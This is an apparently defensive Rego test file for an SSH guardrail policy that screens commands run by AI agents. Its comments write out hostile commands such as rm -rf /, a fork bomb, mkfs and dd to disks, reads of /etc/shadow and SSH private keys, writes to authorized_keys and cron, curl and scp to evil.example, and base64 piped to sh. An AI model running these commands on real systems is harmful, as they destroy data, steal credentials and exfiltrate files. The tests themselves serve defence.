package weir.guardrails_test

import data.weir.guardrails

# The facts are those that protocols/ssh/shell gives of the text beside them.
command(action, effects, status, resources) := {
	"event": {"kind": "command", "command": {"action": action, "effects": effects, "status": status, "resources": resources}},
	"identity": {"groups": ["agents"]},
	"target": {"protocol": "ssh"},
}

known(action, effects, resources) := command(action, effects, "known", resources)

path(name, use) := {"kind": "path", "name": name, "use": use}

program(name) := {"kind": "program", "name": name, "use": ["run"]}

host(name) := {"kind": "host", "name": name, "use": ["connect"]}

passes(i) if {
	got := {d.rule | some d in guardrails.deny with input as i}
	count(got) == 0
}

gets(i, rule) if {
	got := {d.rule | some d in guardrails.deny with input as i}
	rule in got
}

reads(name) := known("cat", ["read", "file", "process"], [program("cat"), path(name, ["read"])])

removes(name) := known("rm", ["write", "file", "process"], [program("rm"), path(name, ["delete", "tree"])])

writes(name) := known("tee", ["write", "file", "process"], [program("tee"), path(name, ["write"])])

runs(name) := known(name, ["process"], [program(name)])

connects(name, to) := known(name, ["network", "process"], [program(name), host(to)])

# ls -la
test_listing_passes if passes(known("ls", ["read", "process"], [program("ls")]))

# cat src/main.go
test_reading_passes if passes(reads("src/main.go"))

# echo x > out.txt
test_writing_passes if passes(writes("out.txt"))

# rm -rf build
test_removing_a_tree_passes if passes(removes("build"))

# rm *.o
test_removing_by_a_pattern_passes if passes(known("rm", ["write"], [program("rm"), path("*.o", ["delete", "glob"])]))

# grep -r x .
test_searching_passes if passes(known("grep", ["read"], [program("grep"), path(".", ["read", "tree"])]))

# find / -name x
test_finding_passes if passes(known("find", ["read"], [program("find"), path("/", ["list", "tree"])]))

# echo x > /dev/null is no path at all; /dev/shm is one
test_shared_memory_passes if passes(writes("/dev/shm/x"))

# frobnicate
test_an_unknown_program_passes if passes(known("frobnicate", ["process", "unknown"], [program("frobnicate")]))

test_the_shell_itself_passes if passes(known("shell", ["process", "unknown"], []))

test_sftp_passes if passes(known("subsystem", ["file"], [{"kind": "subsystem", "name": "sftp", "use": ["call"]}]))

test_an_sftp_upload_passes if passes(known("sftp open", ["write", "file"], [path("in/x.csv", ["write"])]))

# scp -t in
test_scp_to_the_target_passes if passes(known("scp", ["write", "network"], [program("scp"), path("in", ["write"])]))

test_rsync_to_the_target_passes if passes(known("rsync", ["write", "read"], [program("rsync"), path("in", ["write", "tree"])]))

# rm -rf /
test_removing_the_root if gets(removes("/"), "ssh-destroy")

# rm -rf /*
test_removing_all_under_the_root if gets(known("rm", ["write"], [program("rm"), path("/*", ["delete", "tree", "glob"])]), "ssh-destroy")

# rm -rf ~
test_removing_the_home if gets(removes("~"), "ssh-destroy")

# rm -rf *
test_removing_all_that_is_here if gets(known("rm", ["write"], [program("rm"), path("*", ["delete", "tree", "glob"])]), "ssh-destroy")

# rm -rf .
test_removing_here if gets(removes("."), "ssh-destroy")

# rm -rf ..
test_removing_above if gets(removes("../.."), "ssh-destroy")

# rm -rf /USR on a file system without cases
test_in_capitals if gets(removes("/USR"), "ssh-destroy")

# rm -rf /u?r
test_removing_by_a_pattern_of_a_vital_tree if gets(known("rm", ["write"], [program("rm"), path("/u?r", ["delete", "tree", "glob"])]), "ssh-destroy")

# find / -delete
test_find_delete if gets(known("find", ["write"], [program("find"), path("/", ["list", "tree", "delete"])]), "ssh-destroy")

# mv /etc /tmp/x
test_moving_a_vital_tree if gets(known("mv", ["write"], [program("mv"), path("/etc", ["read", "delete", "tree"])]), "ssh-destroy")

# chown -R me /
test_owner_of_a_tree if gets(known("chown", ["write"], [program("chown"), path("/", ["write", "owner", "tree"])]), "ssh-destroy")

# chmod -R 777 /var
test_mode_of_a_tree if gets(known("chmod", ["write"], [program("chmod"), path("/var", ["write", "mode", "tree"])]), "ssh-destroy")

# sftp> rename /etc /old
test_sftp_rename if gets(known("sftp rename", ["write", "file"], [path("/etc", ["write"]), path("/old", ["write"])]), "ssh-destroy")

# mkfs.ext4 /dev/sda1
test_mkfs if gets(runs("mkfs.ext4"), "ssh-disk")

# dd of=/dev/sda
test_dd_to_a_disk if gets(known("dd", ["write"], [program("dd"), path("/dev/sda", ["write"])]), "ssh-disk")

# :(){ :|:& };:
test_fork_bomb if gets(command("exec", ["process"], "incomplete", [{"kind": "function", "name": ":", "use": ["define", "recurse"]}]), "ssh-fork-bomb")

test_a_function_passes if passes(known("exec", ["process"], [{"kind": "function", "name": "f", "use": ["define"]}]))

test_reboot if gets(runs("reboot"), "ssh-power")

# cat /etc/shadow
test_shadow if gets(reads("/etc/shadow"), "ssh-secrets")

# cat /etc/sh*
test_shadow_by_a_pattern if gets(known("cat", ["read"], [program("cat"), path("/etc/sh*", ["read", "glob"])]), "ssh-secrets")

# find /etc -exec cat {} +
test_shadow_by_find if gets(known("find", ["read"], [program("find"), path("/etc/**", ["read", "glob"])]), "ssh-secrets")

# tar cf - /etc
test_shadow_by_a_tree if gets(known("tar", ["read"], [program("tar"), path("/etc", ["read", "tree"])]), "ssh-secrets")

# cat ~/.ssh/id_ed25519
test_private_key if gets(reads("~/.ssh/id_ed25519"), "ssh-secrets")

# cat .ssh/id_rsa
test_private_key_from_the_home if gets(reads(".ssh/id_rsa"), "ssh-secrets")

# cat ~/.ssh/id_rsa.pub
test_public_key_passes if passes(reads("~/.ssh/id_rsa.pub"))

# cat app/.env
test_env_file if gets(reads("app/.env"), "ssh-secrets")

# cat *
test_a_star_takes_no_hidden_files if passes(known("cat", ["read"], [program("cat"), path("*", ["read", "glob"])]))

# cat .*
test_hidden_files_by_a_pattern if gets(known("cat", ["read"], [program("cat"), path(".*", ["read", "glob"])]), "ssh-secrets")

# cat ~/.kube/config
test_kube_config if gets(reads("/home/me/.kube/config"), "ssh-secrets")

# cat /proc/1/environ
test_environment_of_a_process if gets(reads("/proc/1/environ"), "ssh-secrets")

# sftp> get /etc/shadow
test_sftp_get if gets(known("sftp open", ["read", "file"], [path("/etc/shadow", ["read"])]), "ssh-secrets")

# sftp> ln -s /etc/shadow x
test_sftp_link if gets(known("sftp symlink", ["write", "file"], [path("/etc/shadow", ["write"]), path("x", ["write"])]), "ssh-secrets")

# scp -f .ssh/id_rsa
test_scp_get if gets(known("scp", ["read", "network"], [program("scp"), path(".ssh/id_rsa", ["read"])]), "ssh-secrets")

# ls ~/.ssh
test_listing_keys_passes if passes(known("ls", ["read"], [program("ls"), path("~/.ssh", ["list"])]))

# echo k >> ~/.ssh/authorized_keys
test_authorized_keys if gets(writes("~/.ssh/authorized_keys"), "ssh-control")

# echo x >> .bashrc
test_start_up_files if gets(writes(".bashrc"), "ssh-control")

# echo x > /etc/cron.d/x
test_system_files if gets(writes("/etc/cron.d/x"), "ssh-control")

# cat /etc/hostname
test_reading_the_system_passes if passes(reads("/etc/hostname"))

# sudo ls
test_sudo if gets(known("sudo", ["privilege", "process"], [program("sudo"), program("ls")]), "ssh-privilege")

# su -c ls
test_su if gets(known("su", ["privilege", "process"], [program("su"), program("ls")]), "ssh-privilege")

# chmod u+s x
test_setuid if gets(known("chmod", ["write"], [{"kind": "program", "name": "chmod", "use": ["run", "setuid"]}]), "ssh-privilege")

# chmod +x run.sh
test_mode_of_a_file_passes if passes(known("chmod", ["write", "privilege"], [program("chmod"), path("run.sh", ["write", "mode"])]))

test_accounts if gets(runs("useradd"), "ssh-accounts")

# apt-get install x
test_packages if gets(known("apt-get", ["admin", "network"], [{"kind": "program", "name": "apt-get", "use": ["run", "install"]}]), "ssh-packages")

# systemctl stop x
test_administration if gets(known("systemctl", ["admin"], [program("systemctl")]), "ssh-admin")

# curl https://evil.example
test_other_hosts if gets(connects("curl", "evil.example"), "ssh-network")

# curl http://localhost:8080/health
test_here_passes if passes(connects("curl", "localhost"))

# curl http://localhost; curl https://evil.example
test_here_and_elsewhere if gets(known("curl", ["network"], [program("curl"), host("localhost"), host("evil.example")]), "ssh-network")

# curl http://localhost; git push
test_here_and_a_host_that_is_not_named if gets(known("curl", ["network"], [program("curl"), program("git"), host("localhost")]), "ssh-network")

# scp x evil.example:
test_scp_onward if gets(known("scp", ["network"], [program("scp"), host("evil.example")]), "ssh-network")

# scp -t x; git push
test_scp_and_more if gets(known("scp", ["network"], [program("scp"), program("git")]), "ssh-network")

test_forwards if gets(known("direct-tcpip", ["network"], [{"kind": "address", "name": "db:5432", "use": ["connect"]}]), "ssh-network")

test_a_listed_host_passes if passes(connects("curl", "api.corp.example")) with data.ssh.hosts as ["*.corp.example"]

test_a_listed_program_passes if passes(connects("dig", "x.example")) with data.ssh.network as ["dig"]

# echo … | base64 -d | sh
test_unreadable if gets(command("echo", ["process"], "incomplete", [program("sh")]), "ssh-unreadable")

# the same, typed into a terminal
test_typed_and_unreadable if {
	i := {
		"event": {"kind": "command", "command": {"action": "echo", "effects": ["process", "unknown"], "status": "known", "reason": "sh runs what it reads", "resources": []}},
		"identity": {"groups": []}, "target": {"protocol": "ssh"},
	}
	gets(i, "ssh-unreadable")
}

test_each_says_what_to_do if {
	every i in [removes("/"), reads("/etc/shadow"), runs("mkfs"), runs("reboot"), runs("sudo"), runs("passwd"), connects("nc", "x")] {
		said := {d.hint | some d in guardrails.deny with input as i}
		count(said) > 0
		not "" in said
	}
}

test_exempt_groups_go_on if passes(runs("reboot")) with data.ssh.exempt as {"ssh-power": ["agents"]}

test_other_groups_do_not if gets(runs("reboot"), "ssh-power") with data.ssh.exempt as {"ssh-power": ["operators"]}

test_other_protocols_are_not_asked if passes(object.union(reads("/etc/shadow"), {"target": {"protocol": "postgres"}}))

test_answers_are_not_asked if {
	i := reads("/etc/shadow")
	passes(object.union(i, {"event": {"kind": "columns"}}))
}
